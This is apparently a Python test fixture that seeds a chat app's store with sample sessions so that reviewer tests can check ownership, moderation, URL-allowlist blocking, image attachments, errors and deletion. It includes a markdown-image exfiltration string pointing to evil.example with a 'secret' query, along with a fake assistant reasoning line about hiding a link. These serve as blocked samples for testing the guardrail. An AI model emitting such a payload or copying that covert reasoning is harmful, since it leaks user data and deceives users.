"""A small store with what reviewers look for: owners, clients, a blocked answer, an input block,
an image, an error, a deleted chat and context records. Returned ids let tests name what they expect."""

from __future__ import annotations

import io
from dataclasses import dataclass
from datetime import UTC, datetime

from PIL import Image

from webapp.store import AttachmentIn, Store
from webapp.store.chain import sha256_hex

LEAK = "see ![x](https://evil.example/?q=secret)"


def png(color: str = "red", size: tuple[int, int] = (8, 8)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, format="PNG")
    return out.getvalue()


@dataclass(frozen=True)
class Seeded:
    weather: str  # alice, ui: complete answer with reasoning and a context record
    leak: str  # alice, ui: an answer blocked by the output URL rail
    image: str  # bob, api: an image and an upstream error
    demo: str  # a demo visitor: input blocked by moderation
    gone: str  # bob, ui: deleted by its owner
    cutoff: datetime  # after `weather`, before all others
    blocked_answer: int
    image_sha: str


def seed(store: Store) -> Seeded:
    weather = store.create_session(owner="user:alice", client="ui", model="m1", title="Weather today")
    q = store.add_message(weather, role="user", content="Is it sunny in Paris?")
    a = store.add_message(
        weather, role="assistant", content="", status="streaming", model="m1", mode="thinking"
    )
    store.record_context(a, [q], tokens=21, dropped=0)
    store.finish_message(
        a, status="complete", content="Yes, sunny.", reasoning="The user asks about weather."
    )
    cutoff = datetime.now(UTC)

    leak = store.create_session(owner="user:alice", client="ui", model="m1", title="Links please")
    old = store.add_message(leak, role="user", content="an old question")
    store.add_message(leak, role="assistant", content="an old answer")
    q2 = store.add_message(leak, role="user", content="Show me the logo")
    b = store.add_message(leak, role="assistant", content="", status="streaming", model="m1")
    store.record_context(b, [q2], tokens=40, dropped=2)
    store.add_rail_event(
        b, stage="output", rail="url_allowlist", decision="block", reason="evil.example", latency_ms=1
    )
    store.finish_message(
        b, status="blocked", content=LEAK, reasoning="I will hide a link", shown_content="Sorry, blocked."
    )
    del old

    image = store.create_session(owner="user:bob", client="api", model="m2", title="What is in this picture")
    data = png()
    sha = sha256_hex(b"original upload bytes")
    store.add_message(
        image,
        role="user",
        content="Describe it",
        attachments=[AttachmentIn(sha, "image/png", 21, 8, 8, data, thumbnail=png("blue", (4, 4)))],
    )
    store.add_message(image, role="assistant", content="", status="error", error="upstream failed")

    demo = store.create_session(owner="browser:visitor1", client="demo", model="m1", title="hi")
    u = store.add_message(demo, role="user", content="I will hurt you")
    store.add_rail_event(u, stage="input", rail="moderation", decision="block", reason="threat", latency_ms=2)
    store.add_message(demo, role="assistant", content="Sorry, I can't help.", status="blocked")

    gone = store.create_session(owner="user:bob", client="ui", model="m1", title="Deleted chat")
    store.add_message(gone, role="user", content="forget this")
    store.soft_delete(gone, owner="user:bob")
    return Seeded(weather, leak, image, demo, gone, cutoff, b, sha)
